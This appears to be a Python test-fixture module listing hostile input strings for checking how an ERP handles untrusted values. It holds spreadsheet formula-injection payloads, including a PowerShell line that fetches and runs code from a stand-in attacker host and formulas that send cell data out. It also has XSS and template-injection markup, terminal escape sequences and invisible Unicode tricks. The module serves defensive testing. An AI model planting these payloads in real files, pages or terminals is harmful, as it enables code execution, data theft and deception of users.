"""Values as an attacker would type them into the ERP: formulas, markup, orders to a terminal, marks that hide text."""

from __future__ import annotations

from itertools import product

_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "\0=", " =", "\u3000＝", "\u00a0+", "=-+")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "SUM(1,1)*cmd|' /C powershell IEX(wget evil.example/s)'!A0",
    "INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
)

FORMULAS = tuple(start + body for start, body in product(_STARTS, _BODIES))
"""Each of them is a formula to some spreadsheet when it stands in a cell as it is."""

MARKUP = (
    "<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)//",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<object data=http://evil.example>",
    "<embed src=http://evil.example>",
    "<form action=http://evil.example><input name=x>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "[link=http://evil.example]click[/link]",
    "[bold red]x[/]",
    "＜script＞alert(1)＜/script＞",
    "_x003D_1+1",
    "]]>",
    'a,b"c"\r\n=1+1,d',
    "a;=1+1",
)
"""Each of them is code or layout to some page, template or console when it stands there as it is."""

CONTROL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[6n",
    "\x1b[?1049h",
    "\x1bc",
    "\x1bP1$r0m\x1b\\",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "a\x08\x08b",
    "a\rb",
    "a\nb",
    "a\vb",
    "a\fb",
    "a\x07b",
    "a\x00b",
    "a\x7fb",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
)
"""Each of them is an order to a terminal, or ends a line."""

HIDDEN = (
    "VIP\u202eabc",
    "\u202dabc",
    "\u202aabc\u202c",
    "\u202babc\u202c",
    "\u2066abc\u2069",
    "\u2067abc\u2069",
    "\u2068abc\u2069",
    "\u200eabc",
    "\u200fabc",
    "\u061cabc",
    "V\u200bIP",
    "V\u200cIP",
    "V\u200dIP",
    "V\u2060IP",
    "V\ufeffIP",
    "V\u00adIP",
    "V\u180eIP",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "V\U000e0041IP",
    "V\ufff9IP",
    "V\ufffeIP",
    "V\uffffIP",
    "V\ufdd0IP",
    "V\U0001fffeIP",
)
"""Each of them looks like something else, or cannot be held by XML."""

PAYLOADS = (*FORMULAS, *MARKUP, *CONTROL, *HIDDEN)
